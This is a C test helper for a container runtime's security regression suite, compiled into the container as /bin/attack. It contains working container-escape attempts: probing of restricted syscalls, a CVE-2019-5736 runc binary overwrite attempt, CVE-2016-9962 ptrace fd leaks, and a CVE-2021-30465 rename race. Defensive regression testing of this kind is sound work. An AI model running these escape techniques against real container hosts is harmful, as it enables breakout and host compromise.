/* In-container attacker for the security regression suite (tests/tests/security*.rs).
 * Built by the tests with `gcc -static` and copied into the bundle as /bin/attack.
 * Every sub-command prints plain lines "KEY ..." on stdout that the Rust side parses.
 *
 *   syscalls NAME...     call each named syscall with zero/harmless args: "SYS name ret errno"
 *   socket DOMAIN TYPE   socket(2): "SYS socket ret errno"
 *   exewatch             CVE-2019-5736: grab O_PATH fds on every new process's /proc/<pid>/exe and keep
 *                        trying to reopen them for writing: "SEEN pid dev ino exe", "WOPEN fd dev ino exe",
 *                        "WRITE pid ok|errno"
 *   ptracewatch MARKER   CVE-2016-9962: PTRACE_SEIZE every new process and try to read the host MARKER
 *                        through its fds, cwd and root: "ATTACH pid exe" (exe at attach time),
 *                        "EXEC pid exe" (an attached process later ran busybox), "LEAK pid how data"
 *   race DIR             CVE-2021-30465: renameat2(DIR/d, DIR/l, RENAME_EXCHANGE) forever
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

struct sc {
    const char *name;
    long nr;
};

/* x86_64 numbers, spelled out so old headers do not matter. */
static const struct sc table[] = {
    {"_sysctl", 156}, {"acct", 163}, {"add_key", 248}, {"afs_syscall", 183}, {"bpf", 321},
    {"clock_settime", 227}, {"clone3", 435}, {"create_module", 174}, {"delete_module", 176},
    {"fanotify_init", 300}, {"finit_module", 313}, {"fsconfig", 431}, {"fsmount", 432},
    {"fsopen", 430}, {"fspick", 433}, {"get_kernel_syms", 177}, {"get_mempolicy", 239},
    {"getpmsg", 181}, {"init_module", 175}, {"io_uring_enter", 426}, {"io_uring_register", 427},
    {"io_uring_setup", 425}, {"ioperm", 173}, {"iopl", 172}, {"kcmp", 312},
    {"kexec_file_load", 320}, {"kexec_load", 246}, {"keyctl", 250}, {"lookup_dcookie", 212},
    {"mbind", 237}, {"migrate_pages", 256}, {"mount", 165}, {"mount_setattr", 442},
    {"move_mount", 429}, {"move_pages", 279}, {"nfsservctl", 180}, {"open_by_handle_at", 304},
    {"open_tree", 428}, {"perf_event_open", 298}, {"pidfd_getfd", 438}, {"pivot_root", 155},
    {"process_madvise", 440}, {"putpmsg", 182}, {"query_module", 178}, {"quotactl", 179},
    {"quotactl_fd", 443}, {"reboot", 169}, {"request_key", 249}, {"security", 185},
    {"set_mempolicy", 238}, {"set_mempolicy_home_node", 450}, {"setdomainname", 171},
    {"sethostname", 170}, {"setns", 308}, {"settimeofday", 164}, {"swapoff", 168},
    {"swapon", 167}, {"sysfs", 139}, {"syslog", 103}, {"tuxcall", 184}, {"umount2", 166},
    {"unshare", 272}, {"uselib", 134}, {"userfaultfd", 323}, {"ustat", 136}, {"vhangup", 153},
    {"vserver", 236},
    /* allowed ones, as controls */
    {"getpid", 39}, {"getppid", 110},
    {NULL, 0},
};

static long nr_of(const char *name) {
    for (const struct sc *s = table; s->name; s++)
        if (strcmp(s->name, name) == 0)
            return s->nr;
    if (strncmp(name, "nr:", 3) == 0)
        return strtol(name + 3, NULL, 0);
    return -1;
}

static int cmd_syscalls(int argc, char **argv) {
    for (int i = 2; i < argc; i++) {
        long nr = nr_of(argv[i]);
        if (nr < 0) {
            printf("UNKNOWN %s\n", argv[i]);
            continue;
        }
        long r;
        errno = 0;
        if (strcmp(argv[i], "open_by_handle_at") == 0) {
            /* The "Shocker" call: a plausible handle for the root of the mount of fd 3 = "/". */
            struct {
                unsigned int handle_bytes;
                int handle_type;
                unsigned char f_handle[8];
            } h = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
            int dfd = open("/", O_RDONLY | O_DIRECTORY);
            r = syscall(nr, dfd, &h, O_RDONLY);
        } else if (strcmp(argv[i], "io_uring_setup") == 0) {
            unsigned char params[120];
            memset(params, 0, sizeof params);
            r = syscall(nr, 1, params);
        } else if (strcmp(argv[i], "userfaultfd") == 0) {
            r = syscall(nr, O_CLOEXEC | O_NONBLOCK);
        } else if (strcmp(argv[i], "keyctl") == 0) {
            /* KEYCTL_JOIN_SESSION_KEYRING(NULL): creates a keyring when allowed. */
            r = syscall(nr, 1, 0, 0, 0, 0);
        } else if (strcmp(argv[i], "bpf") == 0) {
            /* BPF_PROG_LOAD with a zeroed attr of the right size. */
            unsigned char attr[128];
            memset(attr, 0, sizeof attr);
            r = syscall(nr, 5, attr, sizeof attr);
        } else if (strcmp(argv[i], "unshare") == 0) {
            /* CLONE_NEWUSER|CLONE_NEWNS: the first step of CVE-2022-0492 and CVE-2022-0185. */
            r = syscall(nr, 0x10000000 | 0x00020000);
        } else if (strcmp(argv[i], "fsopen") == 0) {
            r = syscall(nr, "cgroup", 0);
        } else {
            r = syscall(nr, 0, 0, 0, 0, 0, 0);
        }
        printf("SYS %s %ld %d\n", argv[i], r, r < 0 ? errno : 0);
        fflush(stdout);
    }
    return 0;
}

static int cmd_socket(int argc, char **argv) {
    if (argc < 4)
        return 2;
    errno = 0;
    int r = socket(atoi(argv[2]), atoi(argv[3]), 0);
    printf("SYS socket %d %d\n", r, r < 0 ? errno : 0);
    return 0;
}

#define MAXP 4096
static char seen[MAXP * 16];

static int is_seen(int pid) {
    if (pid < 0 || pid >= (int)sizeof seen)
        return 1;
    return seen[pid];
}

static void reap(void) {
    int st;
    pid_t p;
    while ((p = waitpid(-1, &st, WNOHANG | __WALL)) > 0) {
        if (WIFSTOPPED(st)) {
            int sig = WSTOPSIG(st);
            if (sig == SIGTRAP || sig == SIGSTOP)
                sig = 0;
            ptrace(PTRACE_CONT, p, 0, (void *)(long)sig);
        }
    }
}

static int cmd_exewatch(void) {
    int held[256];
    int nheld = 0, self = getpid();
    signal(SIGPIPE, SIG_IGN);
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("READY exewatch\n");
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || is_seen(pid))
                continue;
            char p[64], exe[512];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            ssize_t n = readlink(p, exe, sizeof exe - 1);
            if (n <= 0)
                continue;
            exe[n] = 0;
            seen[pid] = 1;
            int fd = open(p, O_PATH | O_CLOEXEC);
            struct stat st;
            if (fd < 0 || fstat(fd, &st) != 0)
                memset(&st, 0, sizeof st);
            printf("SEEN %d %lu %lu %s\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino, exe);
            if (fd >= 0) {
                if (nheld == 256) {
                    close(held[0]);
                    memmove(held, held + 1, sizeof(int) * 255);
                    nheld--;
                }
                held[nheld++] = fd;
            }
        }
        if (d)
            closedir(d);
        for (int i = 0; i < nheld; i++) {
            if (held[i] < 0)
                continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                struct stat st;
                char exe[512] = "";
                ssize_t n = readlink(p, exe, sizeof exe - 1);
                if (n > 0)
                    exe[n] = 0;
                fstat(w, &st);
                printf("WOPEN %d %lu %lu %s\n", held[i], (unsigned long)st.st_dev,
                       (unsigned long)st.st_ino, exe);
                /* Rewrite the ELF magic's first byte with itself: proves write access without
                 * changing a byte of an unprotected binary. */
                ssize_t r = pwrite(w, "\x7f", 1, 0);
                if (r == 1)
                    printf("WRITE %d ok\n", held[i]);
                else
                    printf("WRITE %d errno %d\n", held[i], errno);
                close(w);
                close(held[i]);
                held[i] = -1;
            }
        }
        reap();
        usleep(200);
    }
}

static void try_read(int pid, const char *how, int dfd, const char *marker) {
    char rel[4096];
    rel[0] = 0;
    for (int i = 0; i < 40; i++)
        strcat(rel, "../");
    strncat(rel, marker[0] == '/' ? marker + 1 : marker, sizeof rel - strlen(rel) - 1);
    int f = openat(dfd, rel, O_RDONLY | O_CLOEXEC);
    if (f < 0)
        return;
    char buf[256];
    ssize_t n = read(f, buf, sizeof buf - 1);
    close(f);
    if (n <= 0)
        return;
    buf[n] = 0;
    for (ssize_t i = 0; i < n; i++)
        if (buf[i] == '\n' || buf[i] == ' ')
            buf[i] = '_';
    printf("LEAK %d %s %s\n", pid, how, buf);
}

static int cmd_ptracewatch(const char *marker) {
    int self = getpid();
    static char attached[MAXP * 16];
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("READY ptracewatch\n");
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || pid >= (int)sizeof attached)
                continue;
            char p[128];
            if (attached[pid] == 1) {
                /* Report when an attached process has exec'd its user binary. */
                char exe[512] = "";
                snprintf(p, sizeof p, "/proc/%d/exe", pid);
                ssize_t n = readlink(p, exe, sizeof exe - 1);
                if (n > 0) {
                    exe[n] = 0;
                    if (strstr(exe, "busybox")) {
                        attached[pid] = 2;
                        printf("EXEC %d %s\n", pid, exe);
                    }
                }
            }
            if (!attached[pid]) {
                if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                    char exe[512] = "?";
                    snprintf(p, sizeof p, "/proc/%d/exe", pid);
                    ssize_t n = readlink(p, exe, sizeof exe - 1);
                    if (n > 0)
                        exe[n] = 0;
                    attached[pid] = 1;
                    printf("ATTACH %d %s\n", pid, exe);
                }
            }
            if (seen[pid] > 20)
                continue;
            seen[pid]++;
            const char *links[] = {"cwd", "root"};
            for (int i = 0; i < 2; i++) {
                snprintf(p, sizeof p, "/proc/%d/%s", pid, links[i]);
                int dfd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                if (dfd >= 0) {
                    try_read(pid, links[i], dfd, marker);
                    close(dfd);
                }
            }
            snprintf(p, sizeof p, "/proc/%d/fd", pid);
            DIR *fdd = opendir(p);
            struct dirent *fe;
            while (fdd && (fe = readdir(fdd))) {
                if (fe->d_name[0] == '.')
                    continue;
                char q[192];
                snprintf(q, sizeof q, "/proc/%d/fd/%s", pid, fe->d_name);
                int dfd = open(q, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                if (dfd >= 0) {
                    char how[64];
                    snprintf(how, sizeof how, "fd%s", fe->d_name);
                    try_read(pid, how, dfd, marker);
                    close(dfd);
                }
            }
            if (fdd)
                closedir(fdd);
        }
        if (d)
            closedir(d);
        reap();
        /* Forget pids that are gone so a reused pid is attacked again. */
        for (int pid = 2; pid < (int)sizeof attached; pid++) {
            if (attached[pid] || seen[pid]) {
                char p[64];
                snprintf(p, sizeof p, "/proc/%d", pid);
                if (access(p, F_OK) != 0) {
                    attached[pid] = 0;
                    seen[pid] = 0;
                }
            }
        }
        usleep(100);
    }
}

static int cmd_race(const char *dir) {
    char a[4096], b[4096];
    snprintf(a, sizeof a, "%s/d", dir);
    snprintf(b, sizeof b, "%s/l", dir);
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("READY race\n");
    unsigned long n = 0;
    for (;;) {
        if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
            n++;
        if ((n & 0xfffff) == 0)
            reap();
    }
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: attack syscalls|socket|exewatch|ptracewatch|race ...\n");
        return 2;
    }
    if (strcmp(argv[1], "syscalls") == 0)
        return cmd_syscalls(argc, argv);
    if (strcmp(argv[1], "socket") == 0)
        return cmd_socket(argc, argv);
    if (strcmp(argv[1], "exewatch") == 0)
        return cmd_exewatch();
    if (strcmp(argv[1], "ptracewatch") == 0 && argc > 2)
        return cmd_ptracewatch(argv[2]);
    if (strcmp(argv[1], "race") == 0 && argc > 2)
        return cmd_race(argv[2]);
    fprintf(stderr, "attack: unknown command %s\n", argv[1]);
    return 2;
}
